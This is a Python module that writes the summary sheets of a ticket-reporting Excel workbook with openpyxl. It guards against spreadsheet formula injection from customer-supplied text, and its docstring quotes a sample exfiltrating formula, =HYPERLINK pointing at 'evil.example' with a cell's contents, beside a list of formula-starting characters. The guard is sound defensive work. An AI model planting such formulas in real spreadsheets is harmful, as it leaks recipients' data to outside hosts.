"""The workbook's summary sheets, each a table or two written from ``ReportData`` with the same few helpers.

A missing figure (a median of no tickets, a share of nothing) is written as "-" rather than left empty or 0: an
empty cell reads like an error and a zero like a fact.
"""

from __future__ import annotations

import math
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.drawing.image import Image
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from ticketd.daemon.reports import actions as report_actions
from ticketd.daemon.reports.data import ReportData, scope_label
from ticketd.daemon.reports.figures import PartyFigures, SatisfactionFigures, SlaFigures
from ticketd.daemon.reports.texts import DEFINITIONS, Words

DATE_FORMAT = "yyyy-mm-dd hh:mm"
HOURS_FORMAT = "0.0"
PERCENT_FORMAT = "0.0%"
BOLD = Font(bold=True)
TITLE = Font(bold=True, size=13)
MIN_WIDTH, MAX_WIDTH, SAMPLE_ROWS = 6, 60, 300
CHART_WIDTH_PX, ROW_PX = 800, 20  # a default row is 15 points, 20 pixels
CHARTS = ("monthly", "categories", "sla", "satisfaction")
NO_CATEGORY = "(none)"


@dataclass(frozen=True)
class Column:
    """A table column: its header and the number format of its cells (None: as written)."""

    header: str
    number_format: str | None = None


def display(value: Any) -> str:
    """A cell as the CSV and the width estimate see it."""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, float):
        return f"{value:.1f}"
    return "" if value is None else str(value)


# A text starting with one of these is a formula to Excel or LibreOffice (OWASP "CSV injection"): "-" and "+"
# start arithmetic, "@" a function call, and a leading tab or CR is stripped by some importers before they look.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(text: str) -> bool:
    """A lone "-" is the sheets' mark for "none", not arithmetic: only a longer text can be a formula."""
    return len(text) > 1 and text.startswith(FORMULA_STARTS)


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write one cell; a customer's text is never a formula, however it starts.

    Subjects, names and categories come from mail anyone can send, and the workbook is mailed to managers: openpyxl
    stores a string starting with "=" as a live formula (``=HYPERLINK("http://evil.example/?d="&B2, …)``). Such a
    text is kept as a string with Excel's quote prefix, so it shows as written and stays text if the cell is edited.
    """
    cell: Cell = ws.cell(row=row, column=column, value=value)
    if isinstance(value, str) and starts_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def write_table(ws: Worksheet, top: int, columns: Sequence[Column], rows: Sequence[Sequence[Any]]) -> int:
    """A bold header row and the rows under it; returns the row after one blank row below the table."""
    for index, column in enumerate(columns, start=1):
        put(ws, top, index, column.header).font = BOLD
    for r, values in enumerate(rows, start=top + 1):
        for index, (column, value) in enumerate(zip(columns, values, strict=True), start=1):
            cell = put(ws, r, index, value)
            if column.number_format and isinstance(value, int | float | datetime) and not isinstance(value, bool):
                cell.number_format = column.number_format
    return top + len(rows) + 2


def fit_columns(ws: Worksheet) -> None:
    """Width from the longest header or (sampled) value, so nothing is cut off and nothing is absurdly wide."""
    widths: dict[int, int] = {}
    for row in ws.iter_rows(min_row=1, max_row=min(ws.max_row, SAMPLE_ROWS)):
        for cell in row:
            if cell.value is not None:
                widths[cell.column] = max(widths.get(cell.column, 0), len(display(cell.value)))
    for column, width in widths.items():
        ws.column_dimensions[get_column_letter(column)].width = min(MAX_WIDTH, max(MIN_WIDTH, width + 2))


def _or_dash(value: float | None, words: Words) -> float | str:
    return words("none") if value is None else value


def _share(part: int, whole: int) -> float | None:
    return part / whole if whole else None


def _finish(ws: Worksheet) -> None:
    ws.freeze_panes = "B2"
    fit_columns(ws)


def _monthly(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    """Types by month, then categories by month, each with row and column totals."""
    def table(top: int, label: str, keys: Sequence[str], name: Callable[[str], str],
              counts: dict[str, dict[str, int]]) -> int:
        columns = [Column(label), *(Column(m) for m in data.months), Column(words("total"))]
        rows = [[name(key), *(counts[m].get(key, 0) for m in data.months),
                 sum(counts[m].get(key, 0) for m in data.months)] for key in keys]
        totals = [sum(counts[m].values()) for m in data.months]
        return write_table(ws, top, columns, [*rows, [words("total"), *totals, sum(totals)]])

    categories = [name for name, _ in data.top_categories]
    below = table(1, words("type"), data.types, lambda t: words.code("type", t), data.by_month_type)
    table(below, words("category"), categories, lambda c: _category(c, words), data.by_month_category)
    _finish(ws)


def _category(name: str, words: Words) -> str:
    return words("category.none") if name in ("", NO_CATEGORY) else name


def _categories(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    total = sum(count for _, count in data.top_categories)
    columns = [Column(words("rank")), Column(words("category")), Column(words("tickets")),
               Column(words("share"), PERCENT_FORMAT)]
    write_table(ws, 1, columns, [[rank, _category(name, words), count, _or_dash(_share(count, total), words)]
                                 for rank, (name, count) in enumerate(data.top_categories, start=1)])
    _finish(ws)


def _parties(label: str) -> Callable[[Worksheet, ReportData, Words, dict[str, Path]], None]:
    """Companies and Customers are the same table over a different list."""
    def draw(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
        figures: list[PartyFigures] = data.companies if label == "company" else data.customers
        columns = [Column(words(label)), *(Column(words(k)) for k in ("tickets", "complaints", "open",
                                                                       "resolution_met", "resolution_missed")),
                   Column(words("resolution_met_share"), PERCENT_FORMAT),
                   Column(words("satisfied_share"), PERCENT_FORMAT)]
        write_table(ws, 1, columns, [[p.name, p.tickets, p.complaints, p.open, p.resolution.met, p.resolution.missed,
                                      _or_dash(p.resolution.met_share, words),
                                      _or_dash(p.satisfaction.satisfied_share, words)] for p in figures])
        _finish(ws)
    return draw


def _sla_columns(words: Words, prefix: str = "") -> list[Column]:
    return [Column(prefix + words("met")), Column(prefix + words("missed")),
            Column(prefix + words("met_share"), PERCENT_FORMAT), Column(prefix + words("median"), HOURS_FORMAT),
            Column(prefix + words("p90"), HOURS_FORMAT)]


def _sla_values(figures: SlaFigures, words: Words) -> list[Any]:
    return [figures.met, figures.missed, _or_dash(figures.met_share, words), _or_dash(figures.median_hours, words),
            _or_dash(figures.p90_hours, words)]


def _sla(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    """The whole period first, then one row per month with first response and resolution side by side."""
    below = write_table(ws, 1, [Column(words("measure")), *_sla_columns(words)],
                        [[words("first_response"), *_sla_values(data.first_response, words)],
                         [words("resolution"), *_sla_values(data.resolution, words)]])
    first, resolution = words("first_response") + ": ", words("resolution") + ": "
    columns = [Column(words("month")), *_sla_columns(words, first), *_sla_columns(words, resolution)]
    rows = [[month, *_sla_values(data.sla_by_month[month][0], words), *_sla_values(data.sla_by_month[month][1], words)]
            for month in data.months]
    write_table(ws, below, columns, rows)
    _finish(ws)


def _satisfaction_values(figures: SatisfactionFigures, words: Words) -> list[Any]:
    return [figures.satisfied, figures.not_satisfied, figures.no_answer, _or_dash(figures.satisfied_share, words)]


def _satisfaction(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    counts = [Column(words(k)) for k in ("satisfied", "not_satisfied", "no_answer")]
    share = Column(words("satisfied_share"), PERCENT_FORMAT)
    below = write_table(ws, 1, [Column(""), *counts, share],
                        [[words("whole_period"), *_satisfaction_values(data.satisfaction, words)]])
    write_table(ws, below, [Column(words("month")), *counts, share],
                [[month, *_satisfaction_values(data.satisfaction_by_month[month], words)] for month in data.months])
    _finish(ws)


def _agents(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    first, resolution = words("first_response") + ": ", words("resolution") + ": "
    columns = [Column(words("agent")), Column(words("name")), Column(words("assigned")), Column(words("open")),
               Column(words("resolved")),
               *(Column(prefix + words(k), HOURS_FORMAT) for prefix in (first, resolution) for k in ("median", "p90"))]
    rows = [[a.email, a.name, a.assigned, a.open, a.resolved,
             *(_or_dash(value, words) for value in (a.first_response.median_hours, a.first_response.p90_hours,
                                                    a.resolution.median_hours, a.resolution.p90_hours))]
            for a in data.agents]
    write_table(ws, 1, columns, rows)
    _finish(ws)


def _actions(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    """Open, overdue, done and cancelled actions per owner, then per category, then every action with its result."""
    counts = [Column(words(k)) for k in ("action.open", "action.overdue", "action.done", "action.cancelled")]

    def table(top: int, label: str, rows: list[report_actions.ActionCounts]) -> int:
        total = report_actions.totals(data.actions)
        return write_table(ws, top, [Column(words(label)), *counts],
                           [*([r.name, r.open, r.overdue, r.done, r.cancelled] for r in rows),
                            [words("total"), total.open, total.overdue, total.done, total.cancelled]])

    below = table(1, "action.owner", report_actions.by_owner(data.actions))
    below = table(below, "category", [report_actions.ActionCounts(_category(c.name, words), c.open, c.overdue,
                                                                  c.done, c.cancelled)
                                      for c in report_actions.by_category(data.actions)])
    columns = [Column(words(f"action.{k}")) for k in ("id", "ticket", "what", "owner")] + [
        Column(words("category")), Column(words("action.source")), Column(words("action.due"), DATE_FORMAT),
        Column(words("action.status")), Column(words("action.result")), Column(words("action.closed_at"), DATE_FORMAT)]
    write_table(ws, below, columns, [
        [a.id, f"#{a.ticket}" if a.ticket is not None else words("action.improvement"), a.what, a.owner,
         _category(a.category, words), a.source or words("none"), a.due,
         words(f"action.{a.status}") + (f" ({words('action.overdue')})" if a.overdue else ""),
         a.result or words("none"), a.closed_at or words("none")] for a in data.actions])
def _stages(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    """Issue 18: tickets per stage of the organisation's own process, and the business hours spent in each."""
    columns = [Column(words("type")), Column(words("stage")), Column(words("stage.now_in")),
               Column(words("stage.entered")), Column(words("stage.total_hours"), HOURS_FORMAT),
               Column(words("median"), HOURS_FORMAT)]
    write_table(ws, 1, columns, [[words.code("type", s.type), s.stage, s.now_in, s.entered, s.total_hours,
                                  _or_dash(s.median_hours, words)] for s in data.stages])
    _finish(ws)


def _charts(ws: Worksheet, data: ReportData, words: Words, charts: dict[str, Path]) -> None:
    """One chart under the other, each under a title cell, scaled to one width so the column reads evenly."""
    row = 1
    for key in (*CHARTS, *sorted(set(charts) - set(CHARTS))):
        if key not in charts:
            continue
        ws.cell(row=row, column=1, value=words.texts.get(f"chart.{key}", key)).font = TITLE
        image = Image(str(charts[key]))
        scale = CHART_WIDTH_PX / image.width if image.width else 1.0
        image.width, image.height = round(image.width * scale), round(image.height * scale)
        ws.add_image(image, f"A{row + 1}")
        row += math.ceil(image.height / ROW_PX) + 3


def _about(ws: Worksheet, data: ReportData, words: Words, _charts: dict[str, Path]) -> None:
    """What the figures cover and how they are counted, for a reader who gets the file forwarded."""
    ws.cell(row=1, column=1, value=words("about.title")).font = TITLE
    period = f"{data.months[0]} – {data.months[-1]}" if data.months else words("none")
    facts: list[tuple[str, Any]] = [
        ("about.scope", scope_label(data.scope, words.language)), ("about.period", period),
        ("about.generated", data.generated_at.replace(tzinfo=None)), ("about.timezone", data.timezone),
        ("about.tickets", len(data.tickets))]
    for row, (key, value) in enumerate(facts, start=3):
        ws.cell(row=row, column=1, value=words(key)).font = BOLD
        cell = put(ws, row, 2, value)
        cell.alignment = Alignment(horizontal="left")
        if isinstance(value, datetime):
            cell.number_format = DATE_FORMAT
    top = 3 + len(facts) + 1
    ws.cell(row=top, column=1, value=words("about.definitions")).font = BOLD
    for row, key in enumerate(DEFINITIONS, start=top + 1):
        ws.cell(row=row, column=1, value=row - top).alignment = Alignment(horizontal="right", vertical="top")
        ws.cell(row=row, column=2, value=words(key)).alignment = Alignment(wrap_text=True, vertical="top")
    ws.column_dimensions["A"].width = 22
    ws.column_dimensions["B"].width = 100


Sheet = Callable[[Worksheet, ReportData, Words, dict[str, Path]], None]
SHEETS: tuple[tuple[str, Sheet], ...] = (
    ("monthly", _monthly), ("categories", _categories), ("companies", _parties("company")),
    ("customers", _parties("customer")), ("sla", _sla), ("satisfaction", _satisfaction), ("agents", _agents),
    ("actions", _actions), ("stages", _stages), ("charts", _charts), ("about", _about))
